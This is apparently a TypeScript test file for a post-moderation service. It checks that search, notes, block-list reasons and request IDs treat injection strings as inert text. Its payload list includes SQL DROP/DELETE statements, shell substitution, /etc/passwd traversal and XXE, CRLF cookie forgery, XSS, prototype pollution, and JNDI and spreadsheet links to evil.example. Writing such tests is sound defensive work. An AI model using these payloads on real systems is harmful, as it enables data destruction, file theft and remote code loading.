import { useService } from '../../support/app';
import { givenPost } from '../../support/posts';
import { logIn } from '../auth/session-factory';
import { unblock } from '../reblog-controls/blocklists';

/** Texts that mean something to an interpreter behind some service: SQL, shells, templates, headers, logs, sheets, documents. */
const INJECTIONS = [
  "'",
  "' OR '1'='1",
  "'; DROP TABLE post; --",
  "' UNION SELECT password_hash FROM app_user --",
  '1); SELECT pg_sleep(30); --',
  '"; DELETE FROM queue_entry; --',
  '$1',
  '$$; DROP TABLE post; $$',
  "E'\\'; DROP TABLE post; --",
  '\\',
  '%',
  '_%_',
  "a' & 'b' | !c:* <-> (",
  '{"$gt": ""}',
  '__proto__.polluted',
  'constructor.prototype',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  '$(id)`id`; id | id && id',
  '../../../../etc/passwd',
  '*)(uid=*))(|(uid=*',
  'x\r\nSet-Cookie: sluice_session=stolen\r\n\r\n<html>',
  '\u001b[2J\u001b]0;owned\u0007\nERROR forged line',
  '<img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '=HYPERLINK("https://evil.example";"x")',
  'javascript:alert(1)//',
  '${jndi:ldap://evil.example/x}',
];

describe('a text that means something to an interpreter', () => {
  const service = useService();
  let id: number;
  beforeAll(async () => {
    id = await givenPost(service);
  });

  it.each(INJECTIONS)('is searched for and not found: %j', async (text) => {
    for (const name of ['q', 'author', 'error_reason'])
      expect(await service.read(`/posts?${name}=${encodeURIComponent(text)}`)).toMatchObject({ items: [], total: 0 });
  });

  it.each(INJECTIONS)('is stored as it is where any text may be: %j', async (text) => {
    const { body } = await service.api.patch(`/posts/${id}`).send({ reviewer_notes: text }).expect(200);
    expect(body.reviewer_notes).toBe(text);
    const entry = { account_id: '@spam@spam.example', reason: text };
    const blocked = (await service.api.post('/reblog-controls/blocked-users').send(entry).expect(201)).body;
    expect(blocked.reason).toBe(text);
    await unblock(service, 'users', blocked.id);
    await expectNoOtherChange();
  });

  async function expectNoOtherChange(): Promise<void> {
    const lists = ['/posts', '/hashtags', '/reblog-controls/blocked-users', '/reblog-controls/blocked-hashtags'];
    const totals = await Promise.all(lists.map(async (path) => (await service.read(path)).total));
    expect(totals).toEqual([1, 1, 0, 0]);
    const untouched = { approved: false, reviewed_at: null, queue_status: 'pending' };
    expect(await service.read(`/posts/${id}`)).toMatchObject(untouched);
    await logIn(service).expect(200);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  }

  it('is no id of a request: the service makes one of its own', async () => {
    for (const text of INJECTIONS.filter((each) => /^[\x20-\x7e]+$/.test(each) && !/^[\w-]+$/.test(each))) {
      const answer = await service.api.get('/posts?limit=1').set('X-Request-Id', text).expect(200);
      expect(answer.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
    }
  });
});
